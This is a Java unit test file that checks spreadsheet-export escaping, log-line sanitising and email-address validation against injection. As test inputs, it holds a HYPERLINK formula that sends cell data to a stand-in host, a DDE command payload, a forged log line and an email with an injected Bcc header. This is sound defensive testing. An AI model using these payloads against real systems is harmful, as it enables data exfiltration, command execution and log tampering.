package accord.platform.control;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;

/** What goes into a file a spreadsheet opens, and into a log line, as typed but harmless. */
class SpreadsheetSafetyTest {

    @Test
    void cellsASpreadsheetWouldRunGetAQuote() {
        assertEquals("'=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")", TableExport.inert("=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")"));
        assertEquals("'+cmd|' /C calc'!A0", TableExport.inert("+cmd|' /C calc'!A0"));
        assertEquals("'-2+3", TableExport.inert("-2+3"));
        assertEquals("'@SUM(A1:A9)", TableExport.inert("@SUM(A1:A9)"));
        assertEquals("'\t=1+1", TableExport.inert("\t=1+1"));
        assertEquals("'\r=1+1", TableExport.inert("\r=1+1"));
    }

    @Test
    void plainTextAndPlainNumbersStayAsTheyAre() {
        assertEquals("Pump delivered without its manual", TableExport.inert("Pump delivered without its manual"));
        assertEquals("泵=坏", TableExport.inert("泵=坏"));
        assertEquals("-1200", TableExport.inert("-1200"));
        assertEquals("+3.5", TableExport.inert("+3.5"));
        assertEquals("-40%", TableExport.inert("-40%"));
        assertEquals("", TableExport.inert(null));
    }

    @Test
    void anExportReadBackGivesWhatWasTyped() throws IOException {
        List<String> typed = List.of("=1+1", "\t@x", "-5", "plain");
        byte[] file = TableExport.csv(List.of("a", "b", "c", "d"), List.of(typed));
        String text = new String(file, StandardCharsets.UTF_8);
        assertEquals("\uFEFFa,b,c,d\r\n'=1+1,'\t@x,-5,plain\r\n", text);
        TableFile.Line line = TableFile.read("back.csv", file).get(1);
        assertEquals(List.of("=1+1", "\t@x", "-5", "plain"), List.of(line.typed(0), line.typed(1), line.typed(2), line.typed(3)));
    }

    @Test
    void logLinesCannotBeForged() {
        assertEquals("wang.fang\\r\\n[INFO] admin signed in", LogText.of("wang.fang\r\n[INFO] admin signed in"));
        assertEquals("a\\tb\\u0000c\\u202ed", LogText.of("a\tb\u0000c\u202Ed"));
        assertEquals("王芳 typed this", LogText.of("王芳 typed this"));
        assertEquals("null", LogText.of(null));
    }

    @Test
    void anEmailAddressIsCheckedAsTheBrowserChecksIt() {
        assertEquals(true, MailAddress.Check.matches("li.gong@hengtong.example"));
        assertEquals(true, MailAddress.Check.matches("o'brien+sales@mail.hengtong.com.cn"));
        assertEquals(false, MailAddress.Check.matches("li@localhost"));
        assertEquals(false, MailAddress.Check.matches("\"li gong\"@hengtong.example"));
        assertEquals(false, MailAddress.Check.matches("li@hengtong..example"));
        assertEquals(false, MailAddress.Check.matches("li@-hengtong.example"));
        assertEquals(false, MailAddress.Check.matches("li gong@hengtong.example"));
        assertEquals(false, MailAddress.Check.matches("li@hengtong.example\nBcc: all@corp.example"));
    }
}
